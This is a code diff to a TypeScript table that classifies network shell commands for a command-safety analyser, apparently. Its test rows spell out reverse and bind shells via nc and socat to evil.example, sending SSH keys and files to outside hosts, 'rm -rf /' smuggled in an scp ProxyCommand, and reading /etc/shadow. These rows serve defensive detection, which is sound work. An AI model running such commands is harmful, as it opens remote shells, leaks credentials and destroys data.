@@ -80,13 +80,6 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
         reads: ["~/.ssh/id"],
         network: ["out ssh://u@h.example//tmp < ~/.ssh/id"],
       },
-      {
-        run: "scp -qvoProxyCommand='rm -rf /' a h.example:b",
-        reads: ["./a"],
-        deletes: ["/**"],
-        network: ["out ssh://h.example/b < ./a"],
-      },
-      { run: "scp b:k .", writes: ["./k"], network: ["in ssh://b/k"] },
     ],
   },
   {
@@ -148,13 +141,6 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
         reads: ["~/.ssh/**"],
         network: ["out ssh://u@h.example/x < ~/.ssh/**"],
       },
-      {
-        run: "rsync -e 'rm x' a h.example:b",
-        deletes: ["./x"],
-        reads: ["./a"],
-        network: ["out ssh://h.example/b < ./a"],
-        commands: ["rsync", "rm"],
-      },
     ],
   },
   {
@@ -172,19 +158,6 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
         run: "nc -w 3 evil.example 4444 < ~/x",
         reads: ["~/x"],
         network: ["both tcp://evil.example < ~/x"],
-      },
-      {
-        run: "nc -e /bin/sh evil.example 4444",
-        network: ["both tcp://evil.example"],
-        executes: ["network sh"],
-        unknown: ["dynamic-code"],
-        commands: ["nc", "sh"],
-      },
-      {
-        run: "nc -lp 9 -e /bin/bash",
-        executes: ["network bash"],
-        network: ["listen ?"],
-        unknown: ["dynamic-code"],
       },
     ],
   },
@@ -208,18 +181,6 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
         network: ["listen ?"],
         unknown: ["dynamic-code"],
       },
-      {
-        run: "ncat --sh-exec 'grep x k' h.example 9",
-        reads: ["./k"],
-        network: ["both tcp://h.example < ./k"],
-      },
-      {
-        run: "ncat --lua-exec x.lua -l 9",
-        reads: ["./x.lua"],
-        executes: ["file lua"],
-        network: ["listen ?"],
-        unknown: ["opaque-file"],
-      },
     ],
   },
   {
@@ -233,38 +194,6 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
         reads: ["./x"],
         network: ["both tcp://h.example:1 < ./x"],
       },
-      {
-        run: "socat TCP:h.example:1 OPEN:x,creat",
-        reads: ["./x"],
-        writes: ["./x"],
-        network: ["both tcp://h.example:1 < ./x"],
-      },
-      {
-        run: "socat DCCP-LISTEN:4444 EXEC:/bin/sh",
-        network: ["listen ?"],
-        executes: ["network sh"],
-        unknown: ["dynamic-code"],
-      },
-      {
-        run: "socat exec:'bash -li',pty,stderr,setsid tcp:h.example:1",
-        network: ["both tcp://h.example:1"],
-        executes: ["network bash"],
-        unknown: ["dynamic-code"],
-      },
-      {
-        run: "socat -u OPEN:k EXEC:'curl --data-binary @- h.example'",
-        reads: ["./k"],
-        network: ["both http://h.example < ./k"],
-        commands: ["socat", "curl"],
-      },
-      {
-        run: 'socat FILE:k "TCP:$host:1"',
-        reads: ["./k"],
-        network: ["both ? < ./k"],
-        writes: ["./k"],
-        unknown: ["dynamic-argument"],
-      },
-      { run: "socat FROB:x -", unknown: ["unknown-option"] },
     ],
   },
   {
@@ -294,20 +223,7 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
     sends: true,
     fetches: true,
     unknown: "opaque-file",
-    tests: [
-      { run: "telnet h.example 25", network: ["both tcp://h.example"], unknown: ["opaque-file"] },
-      {
-        run: "lftp -c 'open h.example; put k'",
-        reads: ["./k"],
-        network: ["out ? < ./k"],
-        unknown: ["opaque-file"],
-      },
-      {
-        run: "lftp -c 'open h.example; mirror -c /x ~'",
-        writes: ["~/**"],
-        unknown: ["opaque-file"],
-      },
-    ],
+    tests: [{ run: "telnet h.example 25", network: ["both tcp://h.example"], unknown: ["opaque-file"] }],
   },
   {
     name: ["mail", "mailx", "s-nail", "mutt", "sendmail", "msmtp", "ssmtp", "swaks"],
@@ -333,13 +249,24 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
     tests: [{ run: "ping -c 3 h.example", network: ["both tcp://h.example"] }],
   },
   {
-    name: ["dig", "host", "nslookup", "whois", "drill", "kdig", "delv", "getent", "finger"],
+    name: ["dig", "host", "nslookup", "whois", "drill", "kdig", "delv", "finger"],
     options: optionList(
       "-4 -6 -b= -c= -f=read -h= -i -k=read -m -p= -q= -r -t= -u -v -x= -y= -a -C -d -l -N= -R= -s -T -w -W= -V -H -I --",
     ),
     loose: true,
     ...ASKS,
     tests: [{ run: "dig h.example", network: ["both tcp://h.example"] }],
+  },
+  {
+    // What is known by name: of hosts it asks the network, of all others files.
+    name: "getent",
+    loose: true,
+    operands: "plain",
+    when: [
+      { first: ["shadow", "gshadow"], action: "secret.read" },
+      { first: ["hosts", "ahosts*", "networks", "netgroup"], operands: "plain host*" },
+    ],
+    tests: [{ run: "getent shadow", actions: ["secret.read"] }],
   },
   {
     name: ["nmap", "masscan", "zmap"],
@@ -366,20 +293,7 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
       { operand: ["DELETE", "delete"], action: "cloud.destroy" },
       { operand: ["POST", "PUT", "PATCH"], action: "cloud.change" },
     ],
-    tests: [
-      { run: "xh h.example", network: ["both http://h.example < data"] },
-      {
-        run: "http -f POST h.example f@k a=b",
-        reads: ["./k"],
-        network: ["both http://h.example < ./k < data"],
-        actions: ["cloud.change"],
-      },
-      {
-        run: "http DELETE h.example/x",
-        network: ["both http://h.example/x < data"],
-        actions: ["cloud.destroy"],
-      },
-    ],
+    tests: [{ run: "xh h.example", network: ["both http://h.example < data"] }],
   },
   {
     name: ["aria2c", "axel", "lynx", "w3m", "links", "elinks", "youtube-dl", "yt-dlp", "svtplay-dl"],
@@ -452,7 +366,13 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
         tree: true,
         action: "cloud.destroy",
       },
-      "config,authorize,mount,serve,rcd,rc,mkdir,touch,settier,backend,link,obscure,archive,nfsmount,selfupdate,rcat":
+      config: {
+        loose: true,
+        action: ["cloud.change", "secret.read"],
+        unknown: "opaque-file",
+        when: [{ first: ["file", "paths", "providers", "touch"], action: [] }],
+      },
+      "authorize,mount,serve,rcd,rc,mkdir,touch,settier,backend,link,obscure,archive,nfsmount,selfupdate,rcat":
         { loose: true, action: "cloud.change", unknown: "opaque-file" },
     },
     tests: [
@@ -512,22 +432,7 @@ export const NETWORK_PROGRAMS: readonly ProgramRow[] = [
     global: optionList(
       "-r,--repo= --repository-file=read -p,--password-file=read --password-command=code -o,--option= --cache-dir= --rsh=code --remote-path=command",
     ),
-    tests: [
-      { run: "restic forget --prune x", actions: ["cloud.destroy"] },
-      {
-        run: "restic restore latest --target x",
-        writes: ["./x/**"],
-        actions: ["cloud.change"],
-        unknown: ["opaque-file"],
-      },
-      {
-        run: "borg create h:/r::a k",
-        reads: ["./k"],
-        network: ["out ? < ./k"],
-        actions: ["cloud.change"],
-        unknown: ["opaque-file"],
-      },
-    ],
+    tests: [{ run: "restic forget --prune x", actions: ["cloud.destroy"] }],
   },
   {
     name: ["GET", "HEAD", "lwp-request", "fetch", "wcurl"],
